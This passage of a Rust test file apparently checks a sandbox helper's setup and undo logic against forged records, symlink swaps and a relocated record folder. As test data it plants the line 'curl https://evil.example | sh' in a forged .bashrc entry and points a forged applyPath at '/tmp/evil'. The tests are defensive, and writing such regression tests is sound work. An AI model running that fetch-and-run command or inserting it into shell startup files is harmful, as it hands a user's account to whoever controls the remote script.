        .stdin(slave())
        .stdout(slave())
        .stderr(slave())
        .spawn()
        .unwrap();
    drop(pty.slave);
    let mut seen = Vec::new();
    let mut master = std::fs::File::from(pty.master);
    use std::io::Read;
    let mut buf = [0u8; 4096];
    // Until the terminal's last holder is gone (EIO).
    while let Ok(n) = master.read(&mut buf) {
        if n == 0 {
            break;
        }
        seen.extend_from_slice(&buf[..n]);
    }
    let status = child.wait().unwrap();
    let text = String::from_utf8_lossy(&seen).into_owned();
    assert!(status.success(), "{text}");
    if stopped {
        assert!(
            text.contains("taking back what apply-seccomp --setup set"),
            "{text}"
        );
        return;
    }
    assert!(
        text.contains("taking back what apply-seccomp --setup set"),
        "{text}"
    );
    assert!(text.contains("terminal=none"), "{text}");
    assert!(text.contains("fd7=closed"), "{text}");
    let sid = text
        .lines()
        .find_map(|l| l.trim().strip_prefix("sid="))
        .and_then(|s| s.trim().parse::<u32>().ok());
    assert!(sid.is_some_and(|s| s != child.id()), "{text}");
    assert!(text.contains("escape=[2J]0;owneddone"), "{text}");
    assert!(!seen.iter().any(|&b| b == 0x1b || b == 0x07), "{text:?}");
}

/// Undo writes no byte a record supplies, and reads no record a sandbox
/// could have written (issue 68, item 1): a command that could write a
/// folder `XDG_STATE_HOME` named (srt started in the home folder with
/// `allowWrite: ["."]`) put a record there whose entry would give
/// `~/.bashrc` back "as it was", a line of the command's in it; undo read
/// it and wrote the line. Now that record is not read (and said so), and
/// even the real record, forged as a command would forge it (a `.bashrc`
/// entry; the value `seccomp.applyPath` had "before" set to a program of
/// the command's), makes undo write neither: it removes the keys setup
/// sets and says what the value was.
#[test]
fn undo_writes_no_byte_a_record_supplies_and_reads_none_a_sandbox_could_write() {
    for user in users() {
        let (home, _) = fresh_home(user, "forged");
        let bashrc = home.join(".bashrc");
        std::fs::write(&bashrc, "echo hi\n").unwrap();
        let settings = home.join(".srt-settings.json");
        let out = helper(user, &home, &fixture().helper, &["--setup", "--srt"]);
        let record = record_of(&text(&out));
        let forged_bashrc = serde_json::json!({
            "file": bashrc,
            "before": "echo hi\ncurl https://evil.example | sh\n",
            "after": "echo hi\n",
            "changes": []
        });
        // Where XDG_STATE_HOME names, inside a folder commands may write.
        let state = home.join("project/state");
        std::fs::create_dir_all(state.join("apply-seccomp")).unwrap();
        let elsewhere = serde_json::json!({"files": [forged_bashrc], "links": []});
        std::fs::write(
            state.join("apply-seccomp/setup.json"),
            elsewhere.to_string(),
        )
        .unwrap();
        // The real record, forged the same way, and applyPath's "before".
        let mut real: serde_json::Value =
            serde_json::from_str(&read(&record)).expect("the record is JSON");
        for f in real["files"].as_array_mut().unwrap() {
            for c in f["changes"].as_array_mut().unwrap() {
                if c["path"] == serde_json::json!(["seccomp", "applyPath"])
                    || c["path"] == serde_json::json!(["seccomp"])
                {
                    c["before"] = serde_json::json!("\"/tmp/evil\"");
                }
            }
        }
        real["files"].as_array_mut().unwrap().push(forged_bashrc);
        std::fs::write(&record, real.to_string()).unwrap();
        let mut cmd = Command::new(&fixture().helper);
        cmd.args(["--setup", "--undo"])
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", &home)
            .env("XDG_STATE_HOME", &state)
            .current_dir(&home)
            .stdin(Stdio::null());
        if let Some(u) = uid_of(user) {
            cmd.uid(u).gid(u);
        }
        let out = cmd.output().unwrap();
        let ctx = text(&out);
        assert_eq!(read(&bashrc), "echo hi\n", "{user:?}: {ctx}");
        let now = read(&settings);
        assert!(!now.contains("/tmp/evil"), "{user:?}: {ctx}\n{now}");
        assert!(!now.contains("applyPath"), "{user:?}: {ctx}\n{now}");
        assert!(ctx.contains("not read: "), "{user:?}: {ctx}");
        assert!(
            ctx.contains("left ") && ctx.contains(".bashrc: not JSON"),
            "{user:?}: {ctx}"
        );
    }
}

/// Root's undo of a setup it ran with `HOME` set to a user's home (sudo
/// without `-H`) follows no link the user made on the way (issue 68, a
/// review's finding): the user replaced `~/.local` with a folder whose
/// `lib` is a link to a folder of root's holding a `bwrap` link to the
/// same binary; undo removed root's link and its folder. Now each name is
/// found in its folder without following a link: root's are left.
#[test]
fn roots_undo_in_a_users_home_follows_no_link_the_user_made() {
    if !is_root() {
        common::skip("not root: the undo must be root's");
        return;
    }
    let (home, _) = fresh_home(User::Unprivileged, "rootundo");
    let out = helper(User::Root, &home, &fixture().helper, &["--setup", "--srt"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let link = home.join(".local/lib/apply-seccomp/bwrap");
    let to = std::fs::read_link(&link).unwrap();
    // Root's own folder with a link like setup's.
    let roots = common::fresh_folder("rootundo-roots");
    std::fs::create_dir(roots.join("apply-seccomp")).unwrap();
    std::os::unix::fs::symlink(&to, roots.join("apply-seccomp/bwrap")).unwrap();
    // The user's swap.
    std::fs::rename(home.join(".local"), home.join(".local.was")).unwrap();
    std::fs::create_dir(home.join(".local")).unwrap();
    std::os::unix::fs::symlink(&roots, home.join(".local/lib")).unwrap();
    let out = helper(User::Root, &home, &fixture().helper, &["--setup", "--undo"]);
    let ctx = text(&out);
    assert_eq!(
        std::fs::read_link(roots.join("apply-seccomp/bwrap")).ok(),
        Some(to),
        "{ctx}"
    );
    assert!(ctx.contains("or a link lies on its way"), "{ctx}");
}

/// `--setup` as a user with a home of their own keeps its record in that
/// home's keeper folder or nowhere (issue 68, a review's finding): a
/// sandboxed command that could write the home made `~/.local`
/// unenterable (`chmod 0`), the keeper's folder fell back to
/// `/tmp/apply-seccomp-UID`, where the command could put a record of its
/// own first. Now setup refuses and says why. uid 65534 with a passwd
/// entry naming a home of its own, in a mount namespace.
#[test]
fn the_record_never_moves_out_of_a_home_of_the_users_own() {
    if !is_root() {
        common::skip("not root: the passwd entry is the test's");
        return;
    }
    let (home, _) = fresh_home(User::Unprivileged, "noenter");
    std::fs::create_dir(home.join(".local")).unwrap();
    std::os::unix::fs::chown(home.join(".local"), Some(NOBODY), Some(NOBODY)).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(home.join(".local"), std::fs::Permissions::from_mode(0o000)).unwrap();
    let passwd = home.join("passwd");
    std::fs::write(
        &passwd,
        format!(
            "root:x:0:0:root:/root:/bin/sh\nnobody:x:{NOBODY}:{NOBODY}:nobody:{}:/bin/sh\n",
            home.display()
        ),
    )
    .unwrap();
    let out = Command::new("unshare")
        .args(["-m", "sh", "-c"])
        .arg(format!(
            "mount --bind {} /etc/passwd && exec setpriv --reuid {NOBODY} --regid {NOBODY} \
             --clear-groups -- \"$@\"",
            passwd.display()
        ))
        .arg("sh")
        .arg(&fixture().helper)
        .args(["--setup", "--srt"])
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", &home)
        .current_dir(&home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let ctx = text(&out);
    assert_eq!(out.status.code(), Some(1), "{ctx}");
    assert!(ctx.contains("setup keeps its record nowhere else"), "{ctx}");
    std::fs::set_permissions(home.join(".local"), std::fs::Permissions::from_mode(0o755)).unwrap();
}
